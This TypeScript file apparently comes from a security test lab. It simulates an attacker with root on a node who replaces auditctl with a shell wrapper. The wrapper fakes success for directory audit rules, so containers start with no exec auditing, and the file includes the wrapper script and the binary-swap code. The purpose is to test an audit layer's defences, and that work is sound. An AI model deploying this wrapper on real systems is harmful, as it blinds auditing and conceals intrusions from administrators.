/**
 * Attack (T1562.001 Impair Defenses, then T1059.004 Unix Shell): root on the
 * node replaces the node's `auditctl` with a wrapper that answers every
 * tree rule (`-F dir=…`) with success and sets nothing, and passes every
 * other call to the genuine binary. The audit daemon sets a container's
 * exec rule from the node's mount namespace (a tree rule must be set from
 * the namespace that owns the mount), so it ran the node's auditctl there,
 * and believed its exit code: every container started afterwards runs
 * with no exec rule, while the start hold reports its rules set. Root then
 * starts the target workload with a shell as its entrypoint that runs the
 * payload at once and exits. On a node without the audit component nothing
 * audits the shell either.
 *
 * What must catch it: the audit layer, which sets its rules without any
 * program of the node (its own static helper, lab/audit/node/native), so
 * the entrypoint's shell is audited.
 */
import type { LabNodeHandle } from '../../node/index.ts';
import { replaceNodeBinary, startupShellAfter } from './defence-tamper.ts';

export const AUDITCTL = '/usr/sbin/auditctl';
/** Where the attacker keeps the genuine auditctl. */
const GENUINE = '/usr/lib/auditctl.genuine';

/** The attacker's auditctl: a rule with `dir=` is "set" and nothing happens; everything else goes to the genuine one. */
export const BLINDING_AUDITCTL = `#!/bin/sh
for a in "$@"; do
  case "$a" in dir=*) exit 0 ;; esac
done
exec ${GENUINE} "$@"
`;

/** Moves the genuine auditctl aside and renames the attacker's over it; evidence. */
export async function replaceAuditctl(node: LabNodeHandle): Promise<Record<string, unknown>> {
  const genuineSha256 = await replaceNodeBinary(node, AUDITCTL, BLINDING_AUDITCTL, GENUINE);
  return { auditctl: AUDITCTL, genuineSha256, genuineMovedTo: GENUINE, replacedBy: 'an auditctl that reports every tree rule (-F dir=) as set and sets none' };
}

export const auditctlReplace = startupShellAfter('auditctl-replace', async ({ node }) => ({
  evidence: await replaceAuditctl(node),
  what: `${AUDITCTL} was replaced by one that sets no tree rule`,
}));
